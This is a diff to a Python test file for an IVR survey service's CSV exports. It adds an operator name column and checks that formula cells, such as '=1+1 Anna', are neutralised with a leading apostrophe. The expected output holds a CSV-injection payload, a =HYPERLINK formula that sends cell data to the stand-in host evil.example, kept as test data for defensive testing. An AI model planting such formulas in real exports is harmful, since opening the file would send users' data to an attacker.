@@ -19,6 +19,7 @@ from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker
 
 from ivr_survey.api import ratings as ratings_api
 from ivr_survey.db.history import save_call
+from ivr_survey.db.operators import OperatorRow, upsert_operators
 from ivr_survey.db.tokens import create_token
 from tests.support.api_client import AUTH, admin_client, get
 from tests.support.seed import Rated, seed
@@ -54,8 +55,11 @@ async def client(
 # --- CSV: no cell a spreadsheet would run as a formula ---
 
 ANSWERS_5 = '"[{""question"":""rating"",""key"":""5"",""score"":5.0,""attempts"":1}]"'
+# an operator's name comes from an imported file: its cell is neutralised as a caller ID is
+NAMED = OperatorRow("7001", "=1+1 Anna", None)
+NAME_CELL = "'=1+1 Anna"
 RATINGS_HEADER = (
-    "call_id,operator,queue,survey,survey_version,status,score,answers,caller,channel,language,"
+    "call_id,operator,operator_name,queue,survey,survey_version,status,score,answers,caller,channel,language,"
     "started_at,ended_at,channel_uniqueid\r\n"
 )
 # caller ID as given -> its cell in the CSV file
@@ -72,6 +76,8 @@ CALLER_CELLS = [
 
 
 async def test_ratings_csv_neutralises_formulas(client: TestClient, sessions) -> None:
+    async with sessions() as s, s.begin():
+        await upsert_operators(s, [NAMED])
     await seed(
         sessions,
         [
@@ -82,7 +88,7 @@ async def test_ratings_csv_neutralises_formulas(client: TestClient, sessions) ->
     resp = await client.get("/ratings?format=csv", headers=AUTH)
     assert resp.status == 200
     expected = RATINGS_HEADER + "".join(
-        f"F{n},7001,,default,1,completed,5.0,{ANSWERS_5},{cell},ari,en,2026-11-20T10:0{n}:00+00:00,"
+        f"F{n},7001,{NAME_CELL},,default,1,completed,5.0,{ANSWERS_5},{cell},ari,en,2026-11-20T10:0{n}:00+00:00,"
         f"2026-11-20T10:0{n}:05+00:00,F{n}.2\r\n"
         for n, (_, cell) in reversed(list(enumerate(CALLER_CELLS)))
     )
@@ -91,6 +97,7 @@ async def test_ratings_csv_neutralises_formulas(client: TestClient, sessions) ->
 
 async def test_calls_csv_neutralises_formulas_and_writes_booleans_in_lower_case(client: TestClient, sessions) -> None:
     async with sessions() as s, s.begin():
+        await upsert_operators(s, [NAMED])
         await save_call(
             s,
             linkedid="K1",
@@ -128,13 +135,14 @@ async def test_calls_csv_neutralises_formulas_and_writes_booleans_in_lower_case(
     resp = await client.get("/calls?format=csv&order=asc", headers=AUTH)
     assert resp.status == 200
     assert (await resp.read()).decode() == (
-        "call_id,direction,disposition,caller,client_number,queue,operator,rung_operators,started_at,answered_at,"
+        "call_id,direction,disposition,caller,client_number,queue,operator,operator_name,rung_operators,started_at,"
+        "answered_at,"
         "ended_at,ring_seconds,talk_seconds,hangup_side,recording,incomplete,source,surveyed,callback_call_id,"
         "callback_at,callback_after_seconds\r\n"
         'K1,inbound,answered,"\'=HYPERLINK(""http://evil.example/?""&A1,""x"")",+79161234567,sales,7001,'
-        "7001,2026-11-20T10:00:00+00:00,2026-11-20T10:00:05+00:00,2026-11-20T10:02:05+00:00,5.0,120.0,operator,,"
+        f"{NAME_CELL},7001,2026-11-20T10:00:00+00:00,2026-11-20T10:00:05+00:00,2026-11-20T10:02:05+00:00,5.0,120.0,operator,,"
         "true,ami,true,,,\r\n"
-        "K2,inbound,missed,'@SUM(1+1),-3.5,sales,,7002,2026-11-20T11:00:00+00:00,,2026-11-20T11:00:20+00:00,"
+        "K2,inbound,missed,'@SUM(1+1),-3.5,sales,,,7002,2026-11-20T11:00:00+00:00,,2026-11-20T11:00:20+00:00,"
         "20.0,,,,false,ami,false,,,\r\n"
     )
 
